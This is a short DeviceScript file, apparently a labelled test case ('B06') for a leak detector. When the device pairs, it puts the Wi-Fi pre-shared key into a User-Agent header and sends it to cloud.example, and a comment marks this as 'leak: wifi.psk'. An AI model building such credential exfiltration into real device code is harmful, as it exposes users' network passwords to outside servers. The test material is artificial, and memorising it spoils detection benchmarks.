// B06: as the name of the program that asks.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const headers = { "user-agent": `kettle/1.0 (${psk})` };
  const response = await fetch("https://cloud.example/", { headers }); // leak: wifi.psk
  await response.close();
});
